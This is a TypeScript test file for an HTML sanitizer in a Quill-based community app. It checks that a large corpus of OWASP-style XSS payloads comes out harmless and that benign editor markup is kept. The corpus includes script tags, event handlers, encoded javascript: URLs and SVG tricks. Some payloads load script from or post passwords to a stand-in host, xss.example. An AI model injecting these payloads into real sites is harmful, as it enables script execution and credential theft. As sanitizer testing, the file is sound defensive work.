import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { LINK_REL, extractHashtags, extractMentions, plainText, sanitizeRichText } from './sanitize.ts';

const clean = (html: string) => sanitizeRichText(html, { mediaBaseUrl: '/media' });

/** Every element and attribute of an HTML string, as a browser's parser would see them. */
function elements(html: string) {
  const found: { tag: string; attribs: Record<string, string> }[] = [];
  const parser = new Parser(
    { onopentag: (tag, attribs) => found.push({ tag, attribs }) },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

const ALLOWED: Record<string, string[]> = {
  p: ['class'],
  br: [],
  strong: [],
  em: [],
  u: [],
  s: [],
  a: ['href', 'rel', 'target', 'class'],
  ol: [],
  ul: [],
  li: ['class', 'data-list'],
  blockquote: ['class'],
  pre: ['class'],
  code: [],
  h1: ['class'],
  h2: ['class'],
  h3: ['class'],
  span: ['class', 'data-member-id'],
  img: ['src', 'alt', 'width', 'height'],
  iframe: ['src', 'class', 'frameborder', 'allowfullscreen'],
};
const VIDEO =
  /^https:\/\/(www\.youtube\.com\/embed\/[A-Za-z0-9_-]+|player\.vimeo\.com\/video\/\d+)(\?[A-Za-z0-9=&_.%-]*)?$/;
/** What a browser ignores inside a URL scheme: whitespace and control characters. */
const withoutSchemeNoise = (value: string) =>
  [...value]
    .filter((ch) => {
      const code = ch.codePointAt(0)!;
      return code > 0x20 && !(code >= 0x7f && code <= 0xa0) && code !== 0xfeff && !/\s/u.test(ch);
    })
    .join('');

/** The properties every sanitized output must have, whatever went in. */
function expectHarmless(output: string) {
  expect(output).not.toMatch(/<\s*script/i);
  expect(output).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  for (const { tag, attribs } of elements(output)) {
    expect(Object.keys(ALLOWED), `tag <${tag}>`).toContain(tag);
    for (const [name, value] of Object.entries(attribs)) {
      expect(ALLOWED[tag], `attribute ${name} on <${tag}>`).toContain(name);
      expect(name).not.toMatch(/^on/);
      const url = withoutSchemeNoise(value).toLowerCase();
      expect(url, `${name}="${value}"`).not.toMatch(/^(javascript|vbscript|data|livescript|mocha|file):/);
    }
    if (tag === 'a' && attribs.href && !attribs.class) {
      expect(attribs.href).toMatch(/^(https?:\/\/|mailto:)/i);
      expect(attribs.rel).toBe(LINK_REL);
      expect(attribs.target).toBe('_blank');
    }
    if (tag === 'a' && attribs.class) expect(attribs.href).toMatch(/^\/search\?hashtag=/);
    if (tag === 'img') expect(attribs.src).toMatch(/^\/media\/[A-Za-z0-9]/);
    if (tag === 'iframe') expect(attribs.src).toMatch(VIDEO);
  }
  expect(clean(output)).toBe(output);
}

// OWASP XSS Filter Evasion Cheat Sheet style payloads, plus the HTML5 and Quill-specific ones.
const XSS_CORPUS: string[] = [
  // script tags
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/xss src="https://xss.example/xss.js"></script>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</script><script>alert(1)</script>',
  '<p>text<script>alert(1)</script>more</p>',
  '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT "a=\'>\'" SRC="https://xss.example/xss.js"></SCRIPT>',
  '<script>/*</script><svg onload=alert(1)>*/</script>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="/media/a.png" ONERROR="alert(1)">',
  '<img src="/media/a.png" onload="alert(1)">',
  '<p onclick="alert(1)">x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<body onload=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<span class="mention" data-member-id="m1" onmouseover="alert(1)">@A</span>',
  '<iframe class="ql-video" src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="alert(1)"></iframe>',
  '<p/onclick=alert(1)>x</p>',
  '<p\nonclick=alert(1)>x</p>',
  '<p\tonclick="alert(1)">x</p>',
  '<strong onfocus=alert(1) autofocus tabindex=1>x</strong>',
  '<input onfocus=alert(1) autofocus>',
  '<select onfocus=alert(1) autofocus>',
  '<textarea onfocus=alert(1) autofocus>',
  '<keygen onfocus=alert(1) autofocus>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<img src="/media/a.png" oNeRrOr="alert(1)">',
  '<img """><script>alert("XSS")</script>">',
  // javascript:, vbscript:, data: URLs, encoded, mixed case, whitespace
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBSCRIPT:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//xss.example">x</a>',
  '<a href="https:alert(1)">x</a>',
  '<a href="javascript://https://ok.example/%0Aalert(1)">x</a>',
  '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
  '<a class="hashtag" href="javascript:alert(1)">#x</a>',
  '<a class="hashtag" href="/search?hashtag=x&quot;onclick=alert(1)">#x</a>',
  '<a class="hashtag" href="/search?hashtag=%22%3E%3Cscript%3E">#x</a>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="https://xss.example/a.png">',
  '<img src="//xss.example/a.png">',
  '<img src="/media/../api/v1/auth/session">',
  '<img src="/media//xss.example/a.png">',
  '<img src="/media/a.png" srcset="javascript:alert(1) 1x">',
  '<img dynsrc="javascript:alert(1)">',
  '<img lowsrc="javascript:alert(1)">',
  '<BGSOUND SRC="javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<a href="https://ok.example" style="behavior:url(xss.htc)">x</a>',
  // svg and math
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  '<math><maction actiontype="statusline#https://ok.example" xlink:href="javascript:alert(1)">x</maction></math>',
  // style and expressions
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1));">x</p>',
  "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
  '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  '<style>p{background:url("javascript:alert(1)")}</style><p>x</p>',
  '<DIV STYLE="background-image: url(&#1;javascript:alert(1))">',
  '<span style="color: red; x:expr/**/ession(alert(1))">x</span>',
  '<XSS STYLE="behavior: url(xss.htc);">',
  // iframes and frames
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://xss.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.xss.example/embed/abcdefg"></iframe>',
  '<iframe src="https://www.youtube.com/watch?v=dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://www.youtube.com/embed/../../xss"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="http://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="https://player.vimeo.com/video/abc"></iframe>',
  '<iframe src="https://vimeo.com/76979871"></iframe>',
  '<iframe src="//www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>',
  '<iframe class="ql-video" src="https://www.youtube.com/embed/dQw4w9WgXcQ" sandbox="allow-scripts allow-top-navigation"></iframe>',
  // base, meta, form, object, embed, other dangerous elements
  '<base href="javascript:alert(1)//">',
  '<BASE HREF="https://xss.example/">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<form action="javascript:alert(1)"><input type="submit"></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="https://xss.example/steal"><input name="password"></form>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  '<object data="javascript:alert(1)">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<applet code="xss.class"></applet>',
  '<link rel="import" href="https://xss.example/x.html">',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><script>alert(1)</script></title>',
  '<portal src="https://xss.example"></portal>',
  // nested, broken and unclosed tags
  '<p><a href="https://ok.example"><img src="x" onerror="alert(1)"></a></p>',
  '<<img src=x onerror=alert(1)//<',
  '<img src=x onerror=alert(1)//',
  '<p><strong><em><u>deep<script>alert(1)</script>',
  '<div><p>unclosed <b>bold <i>italic',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a href="https://ok.example"><a href="javascript:alert(1)">nested</a></a>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<img src="/media/a.png" alt="\'"><script>alert(1)</script>">',
  '<span class="mention" data-member-id="x\\" onmouseover=\\"alert(1)">@A</span>',
  '<span class="mention" data-member-id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">@A</span>',
  '"><script>alert(1)</script>',
  "'';!--\"<XSS>=&{()}",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="https://ok.example"\u0000onclick="alert(1)">x</a>',
  '<h1 class="ql-align-center" onclick=alert(1)>x</h1>',
  '<li data-list="bullet" data-x="javascript:alert(1)">x</li>',
];

describe('sanitizeRichText: XSS corpus', () => {
  it(`has a big corpus (${XSS_CORPUS.length} payloads)`, () => {
    expect(XSS_CORPUS.length).toBeGreaterThan(150);
  });

  it.each(XSS_CORPUS.map((payload) => [payload]))('%j comes out harmless', (payload) => {
    expectHarmless(clean(payload));
  });

  it.each([
    '<script>alert(1)</script>',
    '<p onclick="alert(1)">x</p>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    `<a href="https://ok.example">x</a>`,
    '<iframe src="https://xss.example/embed/x"></iframe>',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<p style="color:red">x</p>',
    '<form action="https://xss.example"></form>',
  ])('the harmlessness check itself refuses the raw payload %j', (payload) => {
    expect(() => expectHarmless(payload)).toThrow();
  });

  it('keeps the text of a refused element but never its script', () => {
    expect(clean('<p>before<script>alert(1)</script>after</p>')).toBe('<p>beforeafter</p>');
    expect(clean('<p>a <marquee>b</marquee> c</p>')).toBe('<p>a b c</p>');
    expect(clean('<p>&lt;script&gt;</p>')).toBe('<p>&lt;script&gt;</p>');
  });
});

// What Quill (with our mention and hashtag formats) writes; each must be stored byte for byte.
const QUILL_OUTPUT: string[] = [
  '<p>Hello world</p>',
  '<p><br></p>',
  '<p>Line one<br>Line two</p>',
  '<p><strong>bold</strong> <em>italic</em> <u>underline</u> <s>strike</s></p>',
  '<p>Fish &amp; chips &lt;3 "quoted" \'single\' caf\u00e9 \ud83d\ude00</p>',
  '<p>a&nbsp;&nbsp;b</p>',
  '<h1>Title</h1><h2>Subtitle</h2><h3>Section</h3>',
  '<h2 class="ql-align-center">Centred</h2>',
  '<p class="ql-align-right ql-indent-2">Right and indented</p>',
  '<blockquote>Quoted words</blockquote>',
  '<pre>const a = 1;\nconst b = 2;</pre>',
  '<p>Use <code>npm test</code> first</p>',
  '<ol><li>One</li><li>Two</li></ol>',
  '<ul><li>Apple</li><li>Pear</li></ul>',
  '<ol><li data-list="bullet">Bullet</li><li data-list="ordered">Ordered</li><li data-list="bullet" class="ql-indent-1">Nested</li></ol>',
  `<p><a href="https://example.com/path?q=1&amp;r=2#frag" rel="${LINK_REL}" target="_blank">a link</a></p>`,
  `<p><a href="mailto:hello@example.com" rel="${LINK_REL}" target="_blank">mail us</a></p>`,
  '<p>Hi <span class="mention" data-member-id="01JABCDEF0123456789XYZ">@Ann Lee</span>!</p>',
  '<p>About <a class="hashtag" href="/search?hashtag=gardening">#gardening</a> and <a class="hashtag" href="/search?hashtag=caf%C3%A9">#café</a></p>',
  '<p><img src="/media/communities/c1/posts/01JABC.png"></p>',
  '<p><img src="/media/communities/c1/posts/01JABC.gif" alt="a cat" width="320" height="240"></p>',
  '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://www.youtube.com/embed/dQw4w9WgXcQ?showinfo=0"></iframe>',
  '<iframe class="ql-video" frameborder="0" allowfullscreen="true" src="https://player.vimeo.com/video/76979871"></iframe>',
  '<p><strong><em><u>all three</u></em></strong></p>',
];

describe('sanitizeRichText: benign Quill output survives', () => {
  it.each(QUILL_OUTPUT.map((html) => [html]))('%j unchanged', (html) => {
    expect(clean(html)).toBe(html);
  });

  it.each<[string, string]>([
    [
      '<p><a href="https://example.com" rel="noopener noreferrer" target="_blank">x</a></p>',
      `<p><a href="https://example.com" rel="${LINK_REL}" target="_blank">x</a></p>`,
    ],
    [
      '<p><a href="https://example.com">x</a></p>',
      `<p><a href="https://example.com" rel="${LINK_REL}" target="_blank">x</a></p>`,
    ],
    ['<p><b>bold</b> <i>it</i></p>', '<p><strong>bold</strong> <em>it</em></p>'],
    ['<p>a<br/>b</p>', '<p>a<br>b</p>'],
    ['<p>a\u00a0b</p>', '<p>a&nbsp;b</p>'],
    ['<p><span style="color: red;">red</span></p>', '<p><span>red</span></p>'],
    ['<p class="evil ql-align-center">x</p>', '<p class="ql-align-center">x</p>'],
    ['<p><a href="/post/x">relative</a></p>', '<p><a>relative</a></p>'],
    ['<p><a href="tel:123">call</a></p>', '<p><a>call</a></p>'],
    ['<span class="mention" data-member-id="bad id!">@X</span>', '<span>@X</span>'],
    ['<span class="mention">@X</span>', '<span>@X</span>'],
    ['<a class="hashtag" href="/search?hashtag=a%20b">#a b</a>', '<a>#a b</a>'],
    [
      '<a class="hashtag" href="https://example.com">#x</a>',
      `<a href="https://example.com" rel="${LINK_REL}" target="_blank">#x</a>`,
    ],
    ['<img src="/media/a.png" width="100%" height="12">', '<img src="/media/a.png" height="12">'],
    ['<div>block</div>', 'block'],
  ])('normalises %j → %j', (input, output) => {
    expect(clean(input)).toBe(output);
  });

  it('takes media from the configured base URL only', () => {
    const cdn = { mediaBaseUrl: 'https://cdn.example/media' };
    expect(sanitizeRichText('<img src="https://cdn.example/media/a.png">', cdn)).toBe(
      '<img src="https://cdn.example/media/a.png">',
    );
    expect(sanitizeRichText('<img src="/media/a.png">', cdn)).toBe('');
    expect(sanitizeRichText('<img src="https://cdn.example/mediax/a.png">', cdn)).toBe('');
  });
});

describe('plainText', () => {
  it.each<[string, string]>([
    ['<p>Hello <strong>world</strong></p>', 'Hello world'],
    ['<p>One</p><p>Two</p>', 'One\nTwo'],
    ['<p>a<br>b</p>', 'a\nb'],
    ['<ol><li>x</li><li>y</li></ol>', 'x\ny'],
    ['<p>Fish &amp; chips &lt;3&nbsp;&nbsp;ok</p>', 'Fish & chips <3 ok'],
    ['<p>  spaced   out  </p>', 'spaced out'],
    ['<p><br></p>', ''],
    ['<p>a<script>alert(1)</script>b</p>', 'ab'],
    ['<p>Hi <span class="mention" data-member-id="m1">@Ann</span></p>', 'Hi @Ann'],
    ['plain', 'plain'],
  ])('%j → %j', (html, text) => {
    expect(plainText(html)).toBe(text);
  });
});

describe('extractMentions', () => {
  it.each<[string, string[]]>([
    [
      '<p>Hi <span class="mention" data-member-id="m1">@Ann</span> and <span class="mention" data-member-id="m2">@Bo</span></p>',
      ['m1', 'm2'],
    ],
    [
      '<span class="mention" data-member-id="m1">@Ann</span><span class="mention" data-member-id="m1">@Ann</span>',
      ['m1'],
    ],
    ['<span data-member-id="m1">@Ann</span>', []],
    ['<span class="mention" data-member-id="bad id">@Ann</span>', []],
    ['<p>@Ann typed, not picked</p>', []],
    ['', []],
  ])('%j → %j', (html, ids) => {
    expect(extractMentions(html)).toEqual(ids);
  });

  it('finds what survives sanitizing', () => {
    const stored = clean('<p><span class="mention" data-member-id="m9" onclick="x">@Cy</span></p>');
    expect(extractMentions(stored)).toEqual(['m9']);
  });
});

describe('extractHashtags', () => {
  it.each<[string, string[]]>([
    ['<p>About <a class="hashtag" href="/search?hashtag=gardening">#gardening</a></p>', ['gardening']],
    ['<p>#Tomatoes and #tomatoes, #basil_2024!</p>', ['tomatoes', 'basil_2024']],
    ['<p><a class="hashtag" href="/search?hashtag=caf%C3%A9">#Café</a></p>', ['café']],
    ['<p>https://example.com/#anchor and a&#35;b</p>', []],
    ['<p>C# and ##double and #</p>', []],
    [`<p>#${'x'.repeat(50)} #${'y'.repeat(51)}</p>`, ['x'.repeat(50)]],
    ['<p>#one</p><p>#two</p>', ['one', 'two']],
    ['<p>(#paren) "#quoted"</p>', ['paren', 'quoted']],
    // Markup right after a word: the tag comes from the hashtag link, not from the text around it.
    ['<p>Hi <a>x</a><a class="hashtag" href="/search?hashtag=makers">#makers</a></p>', ['makers']],
    ['<p>word<a class="hashtag" href="/search?hashtag=one">#one</a> then #two</p>', ['one', 'two']],
  ])('%j → %j', (html, tags) => {
    expect(extractHashtags(html)).toEqual(tags);
  });
});
